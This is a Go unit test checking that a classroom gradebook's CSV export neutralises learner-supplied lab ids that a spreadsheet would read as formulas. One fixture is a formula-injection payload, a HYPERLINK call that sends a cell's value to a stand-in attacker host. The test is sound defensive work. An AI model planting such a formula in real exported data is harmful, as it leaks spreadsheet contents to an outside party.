package classroom

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"
)

// A lab id is the learner's to choose; the instructor opens the export in a
// spreadsheet, where a cell that starts with = + - @ is a formula.
func TestCSVExportHasNoFormulas(t *testing.T) {
	rows := []GradebookRow{{Learner: "Ada", Lab: `=HYPERLINK("http://evil.example?"&A1,"open")`, MaxScore: 1, LastSeen: time.Unix(0, 0)},
		{Learner: "Ada", Lab: "+1", LastSeen: time.Unix(0, 0)}, {Learner: "Ada", Lab: "@SUM(1)", LastSeen: time.Unix(0, 0)},
		{Learner: "Ada", Lab: "incident-502", LastSeen: time.Unix(0, 0)}}
	var b bytes.Buffer
	if err := WriteCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@') {
				t.Errorf("cell %q would be a formula in a spreadsheet", cell)
			}
		}
	}
	if recs[4][1] != "incident-502" {
		t.Errorf("a plain lab id changed: %q", recs[4][1])
	}
}
